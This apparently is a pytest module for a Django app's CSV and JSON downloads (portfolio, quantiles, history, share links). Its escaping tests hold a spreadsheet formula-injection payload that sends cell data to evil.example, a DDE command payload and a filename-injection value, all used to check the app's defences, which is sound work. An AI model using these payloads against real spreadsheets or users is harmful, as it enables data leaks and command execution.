"""Downloads: the portfolio, an estimate's quantiles and the history as CSV, an estimate's
result as JSON; who may download what; and CSV cells that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from projects import formatting, vocabulary
from projects.models import Estimate, ShareLink
from projects.models.tokens import new_token
from projects.presenters.exports import quantile_table
from projects.spreadsheet import BOM, csv_text, filename, safe_cell
from projects.vocabulary import Chance

# A project name that runs as a formula in a spreadsheet unless escaped (OWASP's example).
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def read_csv(response) -> list[list[str]]:
    """The rows of a CSV download, as a spreadsheet reads them."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith(BOM) and "\r\n" in text
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def attachment_name(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.endswith('"')
    name = disposition.removeprefix('attachment; filename="').removesuffix('"')
    assert name.isascii() and all(c.isalnum() or c in "-_." for c in name), name
    return name


# Spreadsheet-safe cells -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-12", "'-12"),  # text that looks like a number is still text, and escaped
        ("Fraud alerts", "Fraud alerts"),
        ("Cost = people + compute", "Cost = people + compute"),
        ("", ""),
        (-12.5, -12.5),  # a real negative number stays a number
        (-3, -3),
        (0, 0),
        (None, ""),
        (float("nan"), ""),
        (float("-inf"), ""),
        (True, "yes"),
        (False, "no"),
    ],
)
def test_cells_that_could_run_as_formulas_are_escaped_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_a_csv_file_has_a_bom_crlf_lines_and_reads_back_as_written():
    text = csv_text(["Project", "Cost ($)"], [[HYPERLINK, -1250.5], ["Café\nCrème, “quoted”", 3]])
    assert text.startswith(BOM)
    assert text.splitlines(keepends=True)[0].endswith("\r\n")
    assert "\r\n-1250.5" not in text and ",-1250.5\r\n" in text  # unquoted, a number
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [
        ["Project", "Cost ($)"],
        ["'" + HYPERLINK, "-1250.5"],
        ["Café\nCrème, “quoted”", "3"],
    ]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Fraud alerts", "fraud-alerts-history.csv"),
        (HYPERLINK, "hyperlinkhttpevilexampleleaka1click-for-details-history.csv"),
        ('a"; filename="evil.exe', "a-filenameevilexe-history.csv"),
        ("Café Crème\r\n", "cafe-creme-history.csv"),
        ("日本語のプロジェクト", "history.csv"),
        ("x" * 300, "x" * 60 + "-history.csv"),
    ],
)
def test_download_names_are_plain_ascii(name, expected):
    assert filename(name, "history", "csv") == expected


# The portfolio ---------------------------------------------------------------------------------


def test_the_portfolio_downloads_one_row_per_project_with_its_latest_estimate(
    client, viewer, team, owner, project, make_project
):
    archived = make_project(team, owner, name="Old chatbot", deadline_weeks=8)
    archived.archived = True
    archived.save()
    make_project(team, owner, name=HYPERLINK)
    client.force_login(viewer)  # viewers download too
    response = client.get(reverse("portfolio_csv", args=[team.pk]))
    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    assert attachment_name(response) == f"payments-portfolio-{today}.csv"
    rows = as_dicts(read_csv(response))
    assert [row["Project"] for row in rows] == ["'" + HYPERLINK, "Fraud alerts", "Old chatbot"]
    row = rows[1]
    estimate = project.shown_estimate()
    result = estimate.result
    assert row["Report"] == "http://testserver" + project.get_absolute_url()
    assert row["Archived"] == "no" and rows[2]["Archived"] == "yes"
    assert row["Estimated on"] == timezone.localtime(estimate.finished_at).date().isoformat()
    assert row["Revision"] == "1"
    for chance in vocabulary.CHANCES:
        column = f"Chance: {chance.long_label('metric')} (%)"
        assert float(row[column]) == round(result["probability"][chance.key] * 100, 1)
    assert float(row["Cost, median (USD)"]) == round(result["cost_usd"]["p50"])
    assert float(row["Cost, P80 (USD)"]) == round(result["cost_usd"]["p80"])
    assert float(row["Weeks to production, P80"]) == round(result["duration_weeks"]["p80"], 1)
    assert row["Target metric"] == "accuracy"
    metric = result["production_accuracy"]
    assert float(row["Production score, median (%)"]) == round(metric["p50"] * 100, 1)
    assert float(row["Production score, P80 (%)"]) == round(metric["p80"] * 100, 1)
    assert float(row["Budget (USD)"]) == result["inputs"]["budget_usd"]
    assert float(rows[2]["Deadline (weeks)"]) == 8


def test_the_portfolio_takes_each_projects_newest_finished_estimate(client, owner, project):
    first = project.shown_estimate()
    later = Estimate.objects.create(
        revision=first.revision,
        status=Estimate.Status.DONE,
        trials=first.trials,
        result={**first.result, "probability": {**first.result["probability"], "all_targets": 0.5}},
        finished_at=first.finished_at + datetime.timedelta(days=1),
    )
    Estimate.objects.create(revision=first.revision, status=Estimate.Status.FAILED, trials=1000)
    client.force_login(owner)
    rows = as_dicts(read_csv(client.get(reverse("portfolio_csv", args=[project.team_id]))))
    assert float(rows[0]["Chance: All three at once (%)"]) == 50.0
    assert rows[0]["Estimated on"] == timezone.localtime(later.finished_at).date().isoformat()
    assert rows[0]["Note"] == "The latest estimate failed"


def test_a_project_without_an_estimate_has_a_row_with_empty_figures(client, owner, team):
    from projects.models import Project

    Project.objects.create(team=team, name="Just an idea", created_by=owner)
    client.force_login(owner)
    rows = as_dicts(read_csv(client.get(reverse("portfolio_csv", args=[team.pk]))))
    assert rows[0]["Project"] == "Just an idea" and rows[0]["Note"] == "Not estimated yet"
    assert rows[0]["Cost, median (USD)"] == rows[0]["Estimated on"] == ""


def test_a_fifth_chance_gets_its_column_by_itself(client, owner, project, monkeypatch):
    fifth = Chance("reaches_production", "Reaches production at all", "Production", "#7a3e9d")
    monkeypatch.setattr(
        vocabulary, "CHANCES", (*vocabulary.CHANCES[:3], fifth, vocabulary.CHANCES[3])
    )
    estimate = project.shown_estimate()
    result = {**estimate.result}
    result["probability"] = {**result["probability"], "reaches_production": 0.875}
    Estimate.objects.filter(pk=estimate.pk).update(result=result)
    client.force_login(owner)
    portfolio = read_csv(client.get(reverse("portfolio_csv", args=[project.team_id])))
    history = read_csv(client.get(reverse("history_csv", args=[project.pk])))
    for rows in (portfolio, history):
        header = rows[0]
        column = header.index("Chance: Reaches production at all (%)")
        assert header[column + 1] == "Chance: All three at once (%)"
    assert portfolio[1][portfolio[0].index("Chance: Reaches production at all (%)")] == "87.5"


def test_the_portfolio_csv_costs_the_same_queries_for_many_projects(
    client, owner, team, make_project
):
    client.force_login(owner)
    url = reverse("portfolio_csv", args=[team.pk])
    make_project(team, owner, name="One")
    with CaptureQueriesContext(connection) as one:
        client.get(url)
    for number in range(4):
        make_project(team, owner, name=f"More {number}")
    with CaptureQueriesContext(connection) as five:
        rows = read_csv(client.get(url))
    assert len(rows) == 6
    assert len(five.captured_queries) == len(one.captured_queries)
    # Only the parts of each result the table needs are read, not the curves and levers.
    # A key of it reads "result", '$."inputs"' (SQLite) or "result" -> 'inputs' (PostgreSQL).
    whole_result = re.compile(r'"projects_estimate"\."result"(?!\s*(,\s*\'\$|->|#>))')
    sql = [query["sql"] for query in five.captured_queries]
    assert any('JSON_EXTRACT("projects_estimate"."result"' in q or "->" in q for q in sql)
    assert not any(whole_result.search(q) for q in sql)


# An estimate -----------------------------------------------------------------------------------


def test_an_estimate_downloads_as_the_stored_engine_result(client, viewer, project):
    estimate = project.shown_estimate()
    client.force_login(viewer)
    response = client.get(reverse("estimate_json", args=[project.pk, estimate.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    assert attachment_name(response) == f"fraud-alerts-estimate-{estimate.pk}.json"
    assert json.loads(response.content) == estimate.result


def test_an_estimates_quantiles_download_as_csv(client, viewer, team, project):
    team.currency = "€"
    team.save()
    estimate = project.shown_estimate()
    curves = estimate.result["curves"]
    client.force_login(viewer)
    response = client.get(reverse("estimate_csv", args=[project.pk, estimate.pk]))
    assert attachment_name(response) == f"fraud-alerts-estimate-{estimate.pk}-quantiles.csv"
    rows = read_csv(response)
    header = rows[0]
    assert header[:3] == ["Share of scenarios at or below (%)", "Cost (€)", "Weeks to production"]
    assert "Production accuracy, the target metric (%)" in header
    assert len(rows) == 1 + len(curves["quantiles"]) == 52
    middle = dict(zip(header, rows[26], strict=True))
    assert float(middle["Share of scenarios at or below (%)"]) == 50.0
    assert float(middle["Cost (€)"]) == round(curves["cost_usd"][25])
    assert float(middle["Weeks to production"]) == round(curves["duration_weeks"][25], 1)
    assert len(header) == len(curves)  # every curve, the quantiles first


def test_a_curve_the_engine_adds_gets_a_column_by_itself(project):
    result = project.shown_estimate().result
    curves = result["curves"]
    count = len(curves["quantiles"])
    extra = {"gpu_hours": [float(i) for i in range(count)], "compute_usd": [1000.4] * count}
    with formatting.currency_of("€"):
        table = quantile_table({**result, "curves": {**extra, **curves}})
    assert table.header[-2:] == ["compute (€)", "gpu_hours"]  # after the known ones, by name
    assert table.rows[3][-2:] == [1000, 3.0]


@pytest.mark.parametrize("name", ["estimate_json", "estimate_csv"])
def test_only_finished_estimates_of_the_project_download(client, owner, project, name):
    revision = project.latest_revision()
    failed = Estimate.objects.create(revision=revision, status=Estimate.Status.FAILED, trials=1000)
    client.force_login(owner)
    assert client.get(reverse(name, args=[project.pk, failed.pk])).status_code == 404
    assert client.get(reverse(name, args=[project.pk, 987654])).status_code == 404


def test_the_report_links_its_own_downloads(client, viewer, project):
    estimate = project.shown_estimate()
    client.force_login(viewer)
    html = client.get(project.get_absolute_url()).content.decode()
    assert f'href="{reverse("estimate_csv", args=[project.pk, estimate.pk])}"' in html
    assert f'href="{reverse("estimate_json", args=[project.pk, estimate.pk])}"' in html


# The history -----------------------------------------------------------------------------------


def test_the_history_table_downloads_as_csv(client, viewer, project):
    from projects import checkins
    from projects.engine.inputs import normalise_progress

    checkins.record(
        project,
        date=datetime.date(2026, 3, 1),
        progress=normalise_progress({"weeks_elapsed": 2, "spent_usd": 20000}),
        author=None,
    )
    done = list(project.estimates.done().order_by("finished_at", "id"))
    client.force_login(viewer)
    page = client.get(reverse("project_history", args=[project.pk])).content.decode()
    assert f'href="{reverse("history_csv", args=[project.pk])}"' in page
    response = client.get(reverse("history_csv", args=[project.pk]))
    assert attachment_name(response) == "fraud-alerts-history.csv"
    rows = as_dicts(read_csv(response))
    assert [row["#"] for row in rows] == [str(n) for n in range(1, len(done) + 1)]
    assert [row["Estimate ID"] for row in rows] == [str(e.pk) for e in done]
    assert rows[0]["Cause"] == "Revision 1"
    assert rows[-1]["Cause"] == "Check-in of 1 Mar 2026"
    last = done[-1].result
    assert float(rows[-1]["Cost, median (USD)"]) == round(last["cost_usd"]["p50"])
    assert float(rows[-1]["Chance: Within budget (%)"]) == round(
        last["probability"]["within_budget"] * 100, 1
    )
    assert rows[-1]["Finished"] == timezone.localtime(done[-1].finished_at).strftime(
        "%Y-%m-%d %H:%M"
    )


# Shared links ----------------------------------------------------------------------------------


def test_a_share_link_downloads_its_reports_quantiles_and_nothing_else(client, owner, project):
    link = ShareLink.objects.create(project=project, token=new_token())
    page = client.get(reverse("shared_report", args=[link.token])).content.decode()
    csv_url = reverse("shared_csv", args=[link.token])
    assert f'href="{csv_url}"' in page
    assert "result.json" not in page and "portfolio.csv" not in page and "history" not in page
    shared = client.get(csv_url)
    assert shared.status_code == 200
    assert shared["Cache-Control"] == "private, no-store"
    assert attachment_name(shared) == "fraud-alerts-quantiles.csv"
    client.force_login(owner)
    estimate = project.shown_estimate()
    member = client.get(reverse("estimate_csv", args=[project.pk, estimate.pk]))
    assert shared.content == member.content


@pytest.mark.parametrize("state", ["revoked", "expired", "unknown"])
def test_a_dead_share_link_downloads_nothing_and_answers_as_its_page(client, project, state):
    past = timezone.now() - datetime.timedelta(days=1)
    fields = {"revoked": {"revoked_at": past}, "expired": {"expires_at": past}}.get(state)
    token = new_token()
    if fields is not None:
        ShareLink.objects.create(project=project, token=token, **fields)
    page = client.get(reverse("shared_report", args=[token]))
    download = client.get(reverse("shared_csv", args=[token]))
    assert download.status_code == page.status_code == (404 if state == "unknown" else 410)
    assert download.content == page.content
    assert download["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in download


def test_the_currency_heads_the_money_columns(client, owner, team, project):
    team.currency = "CHF "
    team.save()
    client.force_login(owner)
    header = read_csv(client.get(reverse("portfolio_csv", args=[team.pk])))[0]
    assert "Cost, median (CHF)" in header and "Budget (CHF)" in header
    assert not any("$" in column for column in header)
    history = read_csv(client.get(reverse("history_csv", args=[project.pk])))[0]
    assert "Cost, median (CHF)" in history
